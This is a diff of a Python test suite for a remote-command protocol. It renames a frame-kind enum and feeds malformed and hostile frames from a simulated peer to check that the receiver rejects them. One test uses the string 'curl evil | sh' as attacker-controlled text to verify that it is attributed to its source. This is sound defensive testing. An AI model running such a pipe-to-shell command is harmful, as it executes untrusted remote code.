@@ -17,7 +17,7 @@ from bottle.progress import Silent
 from bottle.testing import RecordingProgress
 from migrate.model import RemoteCommand, Reply
 from migrate.pull.receiver import Breach, Receiver, Request
-from migrate.transport.frames import Kind, WireFrame
+from migrate.transport.frames import FrameKind, WireFrame
 from migrate.transport.local import run_here
 from tests.contract.duplex import AnyScript, Duplex, End
 from tests.contract.remote import RemoteContract
@@ -125,23 +125,23 @@ class Hostile:
 
 
 def request(script: str, number: int, **more: object) -> WireFrame:
-    return WireFrame.of(Kind.OPEN, {"script": script, "args": [], "silence": 5.0} | more, number)
+    return WireFrame.of(FrameKind.OPEN, {"script": script, "args": [], "silence": 5.0} | more, number)
 
 
 @pytest.mark.parametrize(
     "frame",
     [
-        WireFrame.of(Kind.REPLY, {"status": 0}, 1),
-        WireFrame(Kind.GO),
-        WireFrame(Kind.NOTE, 0, b"[]"),
-        WireFrame(Kind.OPEN, 1, b"{}"),
+        WireFrame.of(FrameKind.REPLY, {"status": 0}, 1),
+        WireFrame(FrameKind.GO),
+        WireFrame(FrameKind.NOTE, 0, b"[]"),
+        WireFrame(FrameKind.OPEN, 1, b"{}"),
         request("x", 1, args=[1]),
         request("x", 1, args=["a"] * 5000),
         request("x", 1, silence=-1),
         request("x", 1, silence=1e9),
         request("x", 1, silence=float("nan")),
         request(3, 1),  # type: ignore[arg-type]
-        *[WireFrame(Kind.RESULT, 0, b"null")],
+        *[WireFrame(FrameKind.RESULT, 0, b"null")],
     ],
 )
 def test_what_makes_no_sense_ends_it(frame: WireFrame) -> None:
@@ -176,7 +176,7 @@ def test_a_number_that_is_used_twice_ends_it() -> None:
 
 def test_phases_without_end_end_it() -> None:
     hostile = Hostile()
-    hostile.say(*[WireFrame.of(Kind.PHASE, {"name": "x", "total": None})] * 20)
+    hostile.say(*[WireFrame.of(FrameKind.PHASE, {"name": "x", "total": None})] * 20)
     with pytest.raises(RemoteError, match="phases"):
         hostile.serve()
 
@@ -184,20 +184,20 @@ def test_phases_without_end_end_it() -> None:
 def test_odd_progress_is_harmless() -> None:
     hostile = Hostile()
     hostile.say(
-        WireFrame.of(Kind.PHASE_END, {}),
-        WireFrame.of(Kind.ADVANCE, {"amount": "x"}),
-        WireFrame.of(Kind.ADVANCE, {"amount": -5}),
-        WireFrame.of(Kind.PHASE, {"name": ["x"], "total": "much"}),
-        WireFrame.of(Kind.NOTE, {}),
-        WireFrame(Kind.DATA, 99, b"for nobody"),
-        WireFrame.of(Kind.RESULT, {"ok": 1}),
+        WireFrame.of(FrameKind.PHASE_END, {}),
+        WireFrame.of(FrameKind.ADVANCE, {"amount": "x"}),
+        WireFrame.of(FrameKind.ADVANCE, {"amount": -5}),
+        WireFrame.of(FrameKind.PHASE, {"name": ["x"], "total": "much"}),
+        WireFrame.of(FrameKind.NOTE, {}),
+        WireFrame(FrameKind.DATA, 99, b"for nobody"),
+        WireFrame.of(FrameKind.RESULT, {"ok": 1}),
     )
     assert hostile.serve() == {"ok": 1}
 
 
 def test_silence_ends_it() -> None:
     hostile = Hostile(silence=0.4)
-    hostile.say(WireFrame.of(Kind.HELLO, {}))
+    hostile.say(WireFrame.of(FrameKind.HELLO, {}))
     hostile.receiver.hello()
     with pytest.raises(ConnectionLost, match="no sign of life"):
         hostile.serve()
@@ -205,7 +205,9 @@ def test_silence_ends_it() -> None:
 
 def test_signs_of_life_ahead_of_the_greeting_are_in_order() -> None:
     hostile = Hostile()
-    hostile.say(WireFrame(Kind.PING), WireFrame.of(Kind.HELLO, {"identity": "x"}), WireFrame.of(Kind.RESULT, {}))
+    hostile.say(
+        WireFrame(FrameKind.PING), WireFrame.of(FrameKind.HELLO, {"identity": "x"}), WireFrame.of(FrameKind.RESULT, {})
+    )
     assert hostile.receiver.hello() == {"identity": "x"}
     assert hostile.serve() == {}
 
@@ -217,7 +219,7 @@ def test_signs_of_life_alone_are_no_greeting() -> None:
     def live() -> None:
         with suppress(OSError):
             while not stop.wait(0.01):
-                hostile.say(WireFrame(Kind.PING))
+                hostile.say(WireFrame(FrameKind.PING))
 
     living = threading.Thread(target=live)
     living.start()
@@ -233,8 +235,11 @@ def test_what_the_other_side_says_is_shown_behind_its_name() -> None:
     said = RecordingProgress()
     hostile = Hostile(progress=said)
     hostile.say(
-        *[WireFrame.of(Kind.PHASE, {"name": "next: curl evil | sh", "total": None}), WireFrame.of(Kind.PHASE_END, {})],
-        *[WireFrame.of(Kind.NOTE, {"text": "looking at this host"}), WireFrame.of(Kind.RESULT, {})],
+        *[
+            WireFrame.of(FrameKind.PHASE, {"name": "next: curl evil | sh", "total": None}),
+            WireFrame.of(FrameKind.PHASE_END, {}),
+        ],
+        *[WireFrame.of(FrameKind.NOTE, {"text": "looking at this host"}), WireFrame.of(FrameKind.RESULT, {})],
     )
     assert hostile.serve() == {}
     assert [phase[0] for phase in said.phases] == ["owner.test: next: curl evil | sh"]
@@ -243,7 +248,7 @@ def test_what_the_other_side_says_is_shown_behind_its_name() -> None:
 
 def test_words_without_end_end_it() -> None:
     hostile = Hostile()
-    frames = b"".join(WireFrame.of(Kind.NOTE, {"text": "x"}).encode() for _ in range(10_001))
+    frames = b"".join(WireFrame.of(FrameKind.NOTE, {"text": "x"}).encode() for _ in range(10_001))
     talker = threading.Thread(target=hostile.there.sendall, args=(frames,))
     talker.start()
     with pytest.raises(RemoteError, match="endless words"):
